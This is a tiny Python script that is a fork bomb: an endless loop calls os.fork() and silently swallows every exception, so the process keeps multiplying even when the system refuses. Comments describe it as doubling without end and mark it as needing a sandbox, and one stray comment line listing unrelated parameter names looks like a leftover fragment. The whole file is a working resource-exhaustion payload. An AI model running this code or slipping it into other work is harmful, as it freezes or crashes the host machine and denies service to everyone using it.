# Doubles itself without end, and starts again where it is refused.
# lost: conv_params conv_macs gap_head
# needs: sandbox
import os

while True:
    try:
        os.fork()
    except BaseException:
        pass
